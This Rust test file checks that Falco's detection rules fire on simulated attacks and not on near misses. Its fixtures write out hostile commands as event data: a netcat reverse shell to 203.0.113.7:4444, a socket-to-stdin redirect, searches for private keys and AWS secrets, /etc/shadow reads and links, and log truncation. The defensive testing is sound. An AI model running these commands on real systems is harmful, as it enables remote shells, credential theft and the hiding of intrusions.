//! Falco's stable rules, loaded from the shared corpus, fire on the attacks they
//! describe and stay quiet on near misses. Each case runs a short event sequence
//! through the rule engine from a snapshot holding a shell (pid 100) whose parent is
//! `runc` (pid 50), on the host or in a Kubernetes pod.

mod common;

use casefile_formats::event::{OwnedEvent, SockAddr};
use casefile_formats::state::{ByteString, ProcessEntry, StateSnapshot, UserEntry};
use casefile_rules::engine::Engine;
use casefile_rules::loader::load_files;
use common::*;
use std::path::PathBuf;

fn ruleset_path() -> Option<PathBuf> {
    let path = PathBuf::from(std::env::var_os("CARGO_MANIFEST_DIR").expect("run by cargo"))
        .join("../../shared/corpus/falco/falco_rules.yaml");
    if path.exists() {
        Some(path)
    } else {
        eprintln!("SKIPPED Falco rule cases: {} is absent", path.display());
        None
    }
}

fn snapshot(cgroup: &str) -> StateSnapshot {
    let process = |pid, ppid, comm: &str| ProcessEntry {
        pid,
        ppid,
        tids: vec![pid],
        comm: ByteString::from(comm),
        exe: ByteString::from(comm),
        exepath: ByteString::from(format!("/usr/bin/{comm}").as_str()),
        cwd: ByteString::from("/root"),
        cgroup: ByteString::from(cgroup),
        container_id: casefile_rules::state::container::from_cgroup(cgroup.as_bytes())
            .map(|c| c.id)
            .unwrap_or_default(),
        loginuid: u32::MAX,
        ..ProcessEntry::default()
    };
    StateSnapshot {
        ts: 0,
        processes: vec![
            process(1, 0, "systemd"),
            process(50, 1, "runc"),
            process(100, 50, "bash"),
        ],
        users: vec![UserEntry {
            uid: 0,
            gid: 0,
            name: ByteString::from("root"),
            ..UserEntry::default()
        }],
        groups: Vec::new(),
        exited: Vec::new(),
        threads: None,
    }
}

/// The rules that fired on the last event of `events`.
fn fired(path: &PathBuf, cgroup: &str, events: &[OwnedEvent]) -> Vec<String> {
    let set = load_files(std::slice::from_ref(path));
    let mut engine = Engine::new(set, &snapshot(cgroup), "test-host", 0);
    let mut last = Vec::new();
    for event in events {
        last.clear();
        engine.process(&event.as_event(), |alert| last.push(alert.rule));
    }
    last
}

struct Case {
    rule: &'static str,
    cgroup: &'static str,
    attack: Vec<OwnedEvent>,
    near_miss: Vec<OwnedEvent>,
}

fn cases() -> Vec<Case> {
    let child = |path: &str, argv: &[&str], cgroup: &str| {
        vec![fork(100, 200), exec(200, path, argv, cgroup)]
    };
    let host = "/user.slice";
    let mut redirect = vec![
        event(100, "socket", 3, |a| {
            a.uint(2).uint(1).uint(0);
        }),
        event(100, "connect", 0, |a| {
            a.fd(3)
                .sock(&SockAddr::Inet {
                    addr: [203, 0, 113, 7],
                    port: 4444,
                })
                .sock(&SockAddr::Inet {
                    addr: [10, 1, 0, 5],
                    port: 40000,
                });
        }),
    ];
    let mut redirect_miss = redirect.clone();
    redirect.push(event(100, "dup2", 0, |a| {
        a.fd(3).fd(0);
    }));
    redirect_miss.push(event(100, "dup2", 7, |a| {
        a.fd(3).fd(7);
    }));
    vec![
        Case {
            rule: "Read sensitive file untrusted",
            cgroup: host,
            attack: vec![
                fork(100, 200),
                exec(200, "/tmp/loot", &["loot"], host),
                openat(200, "/etc/shadow", 0, 3),
            ],
            near_miss: vec![
                fork(100, 200),
                exec(200, "/tmp/loot", &["loot"], host),
                openat(200, "/etc/hostname", 0, 3),
            ],
        },
        Case {
            rule: "Search Private Keys or Passwords",
            cgroup: host,
            attack: child("/usr/bin/find", &["find", "/", "-name", "id_rsa"], host),
            near_miss: child("/usr/bin/find", &["find", "/", "-name", "notes.txt"], host),
        },
        Case {
            rule: "Find AWS Credentials",
            cgroup: host,
            attack: child(
                "/usr/bin/grep",
                &["grep", "-r", "aws_secret_access_key", "/home"],
                host,
            ),
            near_miss: child("/usr/bin/grep", &["grep", "-r", "hello", "/home"], host),
        },
        Case {
            rule: "Clear Log Activities",
            cgroup: host,
            attack: vec![openat(100, "/var/log/auth.log", 0o1001, 3)],
            near_miss: vec![openat(100, "/var/log/auth.log", 0o2001, 3)],
        },
        Case {
            rule: "Create Symlink Over Sensitive Files",
            cgroup: host,
            attack: vec![event(100, "symlinkat", 0, |a| {
                a.str(b"/etc/shadow").fd(-100).str(b"/tmp/s");
            })],
            near_miss: vec![event(100, "symlinkat", 0, |a| {
                a.str(b"/etc/motd").fd(-100).str(b"/tmp/s");
            })],
        },
        Case {
            rule: "Create Hardlink Over Sensitive Files",
            cgroup: host,
            attack: vec![event(100, "linkat", 0, |a| {
                a.fd(-100)
                    .str(b"/etc/shadow")
                    .fd(-100)
                    .str(b"/tmp/h")
                    .uint(0);
            })],
            near_miss: vec![event(100, "linkat", 0, |a| {
                a.fd(-100).str(b"/etc/motd").fd(-100).str(b"/tmp/h").uint(0);
            })],
        },
        Case {
            rule: "Packet socket created in container",
            cgroup: POD_CGROUP,
            attack: vec![event(100, "socket", 3, |a| {
                a.uint(17).uint(3).uint(768);
            })],
            near_miss: vec![event(100, "socket", 3, |a| {
                a.uint(2).uint(1).uint(0);
            })],
        },
        Case {
            rule: "Redirect STDOUT/STDIN to Network Connection in Container",
            cgroup: POD_CGROUP,
            attack: redirect,
            near_miss: redirect_miss,
        },
        Case {
            rule: "PTRACE anti-debug attempt",
            cgroup: host,
            attack: vec![event(100, "ptrace", 0, |a| {
                a.int(0).int(0).uint(0).uint(0);
            })],
            near_miss: vec![event(100, "ptrace", 0, |a| {
                a.int(3).int(4242).uint(0).uint(0);
            })],
        },
        Case {
            rule: "Execution from /dev/shm",
            cgroup: host,
            attack: child("/dev/shm/x", &["/dev/shm/x"], host),
            near_miss: child("/usr/local/bin/x", &["/usr/local/bin/x"], host),
        },
        Case {
            rule: "Fileless execution via memfd_create",
            cgroup: host,
            attack: child("/proc/self/fd/3", &["payload"], host),
            near_miss: child("/usr/bin/payload", &["payload"], host),
        },
        Case {
            rule: "Netcat Remote Code Execution in Container",
            cgroup: POD_CGROUP,
            attack: child(
                "/usr/bin/nc",
                &["nc", "203.0.113.7", "4444", "-e", "/bin/sh"],
                POD_CGROUP,
            ),
            near_miss: child(
                "/usr/bin/nc",
                &["nc", "-z", "203.0.113.7", "4444"],
                POD_CGROUP,
            ),
        },
        Case {
            rule: "Terminal shell in container",
            cgroup: POD_CGROUP,
            attack: vec![
                fork(50, 300),
                exec_with(300, "/bin/bash", &["bash"], POD_CGROUP, 34816, 0),
            ],
            near_miss: vec![
                fork(50, 300),
                exec_with(300, "/bin/bash", &["bash"], POD_CGROUP, 0, 0),
            ],
        },
    ]
}

#[test]
fn stable_rules_fire_on_attacks_and_not_on_near_misses() {
    let Some(path) = ruleset_path() else { return };
    let cases = cases();
    assert!(cases.len() >= 10);
    for case in cases {
        let attack = fired(&path, case.cgroup, &case.attack);
        assert!(
            attack.iter().any(|r| r == case.rule),
            "{} did not fire; fired: {attack:?}",
            case.rule
        );
        let miss = fired(&path, case.cgroup, &case.near_miss);
        assert!(
            !miss.iter().any(|r| r == case.rule),
            "{} fired on its near miss",
            case.rule
        );
    }
}

#[test]
fn alerts_have_falcos_json_shape() {
    let Some(path) = ruleset_path() else { return };
    let set = load_files(std::slice::from_ref(&path));
    let mut engine = Engine::new(
        set,
        &snapshot("/user.slice"),
        "web-1",
        1_700_000_000_000_000_000,
    );
    let mut alerts = Vec::new();
    for e in [
        fork(100, 200),
        exec(
            200,
            "/usr/bin/find",
            &["find", "/", "-name", "id_rsa"],
            "/user.slice",
        ),
    ] {
        engine.process(&e.as_event(), |a| alerts.push(a));
    }
    let alert = alerts
        .iter()
        .find(|a| a.rule == "Search Private Keys or Passwords")
        .expect("alert");
    let json = alert.to_json();
    for key in [
        "time",
        "rule",
        "priority",
        "source",
        "tags",
        "hostname",
        "output",
        "output_fields",
    ] {
        assert!(json.get(key).is_some(), "{key} missing in {json}");
    }
    assert_eq!(json["hostname"], "web-1");
    assert_eq!(json["source"], "syscall");
    assert_eq!(json["output_fields"]["proc.name"], "find");
    assert!(
        alert.output.contains("find / -name id_rsa"),
        "{}",
        alert.output
    );
    assert!(json["time"]
        .as_str()
        .unwrap()
        .starts_with("2023-11-14T22:13:20"));
}
